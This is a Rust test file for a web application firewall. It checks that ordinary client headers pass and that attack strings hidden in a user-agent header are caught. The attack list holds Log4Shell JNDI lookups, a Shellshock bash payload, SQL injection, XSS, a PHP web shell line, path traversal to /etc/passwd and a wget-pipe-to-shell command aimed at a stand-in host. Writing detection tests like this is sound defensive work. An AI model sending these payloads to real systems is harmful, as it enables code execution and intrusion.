//! The default pack and the fields that every request carries: what clients really send passes, an attack in them does not.
#![expect(clippy::expect_used, reason = "a test may stop where it stands")]

use waf::{Part, Place, Plan, RequestFacts, RuleFiles, Settings};

/// What browsers, libraries, apps, robots and monitors call themselves.
const USER_AGENTS: &str = include_str!("corpus/user_agents.txt");

/// What they ask for. The fourth is that of a Java runtime, which no standard has.
const OTHERS: [(&str, &str); 31] = [
    ("accept", "*/*"),
    ("accept", "application/json"),
    ("accept", "application/json, text/plain, */*"),
    (
        "accept",
        "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2",
    ),
    ("accept", "application/json, application/*+json"),
    (
        "accept",
        "application/json, application/*+json;q=0.9, */*;q=0.1",
    ),
    ("accept", "application/vnd.api+json"),
    (
        "accept",
        "application/vnd.github.v3+json, application/json;q=0.9",
    ),
    (
        "accept",
        "application/hal+json, application/problem+json;q=0.8",
    ),
    (
        "accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    ),
    (
        "accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    (
        "accept",
        "text/html, application/xhtml+xml, application/xml;q=0.9, image/webp, */*;q=0.8",
    ),
    (
        "accept",
        "application/json;odata.metadata=minimal;odata.streaming=true;IEEE754Compatible=false",
    ),
    ("accept", "application/json; version=2; charset=utf-8"),
    (
        "accept",
        "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
    ),
    ("accept", "text/event-stream"),
    ("accept", "*/*;q=0.8"),
    ("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("accept-language", "en-US,en;q=0.5"),
    ("accept-language", "*"),
    (
        "accept-language",
        "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
    ),
    ("accept-language", "zh-Hans-CN,zh-Hans;q=0.9"),
    ("prefer", "return=minimal"),
    ("prefer", "return=representation"),
    ("prefer", "respond-async, wait=10"),
    ("prefer", "handling=lenient; strict"),
    ("prefer", "outlook.timezone=\"Europe/Berlin\""),
    ("idempotency-key", "8e03978e-40d5-43dd-bc93-6894a57f9324"),
    (
        "idempotency-key",
        "\"8e03978e-40d5-43dd-bc93-6894a57f9324\"",
    ),
    ("idempotency-key", "KG5LxwFBepaKHyUD"),
    ("idempotency-key", "order-2026-11-0042/retry:1"),
];

fn plan() -> Plan {
    waf::compile(&Settings::default(), &RuleFiles::none()).expect("the default pack compiles")
}

fn rules(plan: &Plan, name: &str, text: &str) -> Vec<String> {
    let parts = [Part::value(Place::Header, name, text.as_bytes())];
    let found = waf::inspect(&parts, &RequestFacts::default(), plan, 0);
    found.findings.into_iter().map(|hit| hit.rule).collect()
}

#[test]
fn real_clients_pass() {
    let plan = plan();
    let agents = USER_AGENTS.lines().map(|text| ("user-agent", text));
    let all: Vec<(&str, &str)> = agents.chain(OTHERS).collect();
    assert!(all.len() > 100);
    let wrong: Vec<String> = all
        .iter()
        .map(|(name, text)| (name, text, rules(&plan, name, text)))
        .filter(|(_, _, rules)| !rules.is_empty())
        .map(|(name, text, rules)| format!("{name}: {text} {rules:?}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn an_attack_behind_the_name_of_a_client_is_found() {
    let plan = plan();
    let attacks = [
        "${jndi:ldap://a.example/x}",
        "${${lower:j}ndi:ldap://a.example/x}",
        "() { :; }; /bin/bash -c id",
        "' or 1=1--",
        "1' and sleep(5)#",
        "<script>alert(1)</script>",
        "<?php system($_GET['c']); ?>",
        "../../../../etc/passwd",
        "{{7*7}}",
        "; wget http://a.example/x.sh | sh",
    ];
    let names = [
        "curl/8.9.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    ];
    for attack in attacks {
        assert!(!rules(&plan, "user-agent", attack).is_empty(), "{attack}");
        for name in names {
            let text = format!("{name} {attack}");
            assert!(!rules(&plan, "user-agent", &text).is_empty(), "{text}");
        }
    }
}
